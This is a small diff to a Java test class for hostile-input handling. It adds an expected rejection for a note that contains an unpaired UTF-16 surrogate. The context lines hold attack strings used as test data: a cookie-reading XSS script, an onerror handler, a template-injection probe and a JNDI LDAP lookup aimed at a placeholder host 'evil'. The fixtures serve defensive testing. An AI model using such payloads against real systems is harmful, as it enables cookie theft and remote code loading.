@@ -208,7 +208,9 @@ class HostileInputTest {
                                 "<script>alert(document.cookie)</script><img src=x onerror=alert(1)> {{7*7}}"
                                         + " ${jndi:ldap://evil/x}")),
                 receipt("sql-injection-in-external-id.json", "index 0 created"),
-                receipt("emoji-in-external-id.json", "index 0 created"));
+                receipt("emoji-in-external-id.json", "index 0 created"),
+                receipt("lone-surrogate-in-note.json", "index 0 rejected: orderNotes[0].note: holds a broken"
+                        + " character (an unpaired UTF-16 surrogate \\ud800)"));
     }
 
     @ParameterizedTest(name = "{0}")
